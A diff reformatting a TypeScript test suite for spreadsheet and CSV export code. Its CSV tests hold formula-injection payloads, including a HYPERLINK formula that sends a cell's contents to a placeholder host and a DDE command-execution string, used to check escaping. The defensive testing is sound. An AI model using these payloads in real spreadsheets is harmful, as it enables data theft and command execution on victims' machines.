@@ -66,7 +66,10 @@ const ROWS = [
 describe('writeWorkbook', () => {
   it('writes what readTable reads back equal', async () => {
     const stream = new PassThrough();
-    const [bytes, counts] = await Promise.all([buffer(stream), writeWorkbook(stream, [{ name: '名单', columns: COLUMNS, rows: ROWS }])]);
+    const [bytes, counts] = await Promise.all([
+      buffer(stream),
+      writeWorkbook(stream, [{ name: '名单', columns: COLUMNS, rows: ROWS }]),
+    ]);
     expect(counts).toEqual([3]);
     const table = await readTable(bytes, 'a.xlsx', COLUMNS);
     expect(table.rows.map(({ values }) => values)).toEqual(ROWS);
@@ -92,7 +95,9 @@ describe('writeWorkbook', () => {
 
   it('removes the half-written file when the rows fail', async () => {
     const path = join(folder, 'failed.xlsx');
-    await expect(writeWorkbook(path, [{ name: 'a', columns: COLUMNS, rows: breakingRows() }])).rejects.toThrow('the cursor broke');
+    await expect(writeWorkbook(path, [{ name: 'a', columns: COLUMNS, rows: breakingRows() }])).rejects.toThrow(
+      'the cursor broke',
+    );
     await expect(stat(path)).rejects.toThrow('ENOENT');
   });
 
@@ -114,13 +119,25 @@ describe('templates, exports and refused rows', () => {
     expect(xml).toMatch(/<col min="2" style="\d+"/);
     expect(partOf(bytes, 'xl/workbook.xml')).toMatch(/name="选项"[^>]*state="hidden"/);
     const table = await readTable(path, 'a.xlsx', COLUMNS);
-    expect(table).toMatchObject({ sheetName: '花名册', sheetNames: ['花名册', '填写说明', '选项'], missingRequired: [], unknownColumns: [], rows: [] });
+    expect(table).toMatchObject({
+      sheetName: '花名册',
+      sheetNames: ['花名册', '填写说明', '选项'],
+      missingRequired: [],
+      unknownColumns: [],
+      rows: [],
+    });
   });
 
   it('ends an export with who took what and when', async () => {
     const path = join(folder, 'export.xlsx');
-    await writeExport(path, [{ name: '名单', columns: COLUMNS, rows: ROWS }], { exportedBy: '王芳', exportedAt: '2026/11/20 10:30', filter: '部门：研发' });
-    const note = await readTable(path, 'a.xlsx', [column('item', '项目'), column('text', '内容')], { sheetName: '导出说明' });
+    await writeExport(path, [{ name: '名单', columns: COLUMNS, rows: ROWS }], {
+      exportedBy: '王芳',
+      exportedAt: '2026/11/20 10:30',
+      filter: '部门：研发',
+    });
+    const note = await readTable(path, 'a.xlsx', [column('item', '项目'), column('text', '内容')], {
+      sheetName: '导出说明',
+    });
     expect(note.rows.map(({ values }) => [values['item'], values['text']])).toEqual([
       ['导出人', '王芳'],
       ['导出时间', '2026/11/20 10:30'],
@@ -136,7 +153,9 @@ describe('templates, exports and refused rows', () => {
     await writeFailedRows(path, '失败行', columns, rows);
     const again = await readTable(path, 'a.xlsx', columns);
     expect(again.unknownColumns).toEqual(['错误原因']);
-    expect(again.rows.map(({ raw, issues }) => ({ raw, issues }))).toEqual(rows.map(({ raw, issues }) => ({ raw, issues })));
+    expect(again.rows.map(({ raw, issues }) => ({ raw, issues }))).toEqual(
+      rows.map(({ raw, issues }) => ({ raw, issues })),
+    );
     const bytes = await readFile(path);
     expect(partOf(bytes, 'xl/comments1.xml')).toContain('02 月没有 31 日');
     expect(partOf(bytes, 'xl/worksheets/sheet1.xml')).toMatch(/<c r="A2" s="\d+"\/>/);
@@ -152,19 +171,29 @@ describe('writeCsv', () => {
     expect(rows.map(({ values }) => values)).toEqual(ROWS);
   });
 
-  it.each(['=1+1', '@SUM(A1:A2)', '=HYPERLINK("http://example.invalid/?x="&A1,"点我")', '\t=1+1', '\r=1+1', '＝1＋1', "=cmd|' /C calc'!A0", '-1+cmd', '+A1'])(
-    'guards %j and gives it back when read',
+  it.each([
+    '=1+1',
+    '@SUM(A1:A2)',
+    '=HYPERLINK("http://example.invalid/?x="&A1,"点我")',
+    '\t=1+1',
+    '\r=1+1',
+    '＝1＋1',
+    "=cmd|' /C calc'!A0",
+    '-1+cmd',
+    '+A1',
+  ])('guards %j and gives it back when read', (text) => {
+    const cell = csvCell(text);
+    expect(cell.replace(/^"/, '')).toMatch(/^'/);
+    const [row] = streamCsv(`${cell},x\r\n`, ',');
+    expect(row?.cells[0]).toBe(text);
+  });
+
+  it.each(['+86 13800000000', '-5', '-12.50', '+1 (415) 555-0100', '张三', '2026/11/17'])(
+    'leaves %j as it is',
     (text) => {
-      const cell = csvCell(text);
-      expect(cell.replace(/^"/, '')).toMatch(/^'/);
-      const [row] = streamCsv(`${cell},x\r\n`, ',');
-      expect(row?.cells[0]).toBe(text);
+      expect(csvCell(text)).toBe(text);
     },
   );
-
-  it.each(['+86 13800000000', '-5', '-12.50', '+1 (415) 555-0100', '张三', '2026/11/17'])('leaves %j as it is', (text) => {
-    expect(csvCell(text)).toBe(text);
-  });
 });
 
 function partOf(bytes: Uint8Array, name: string): string {
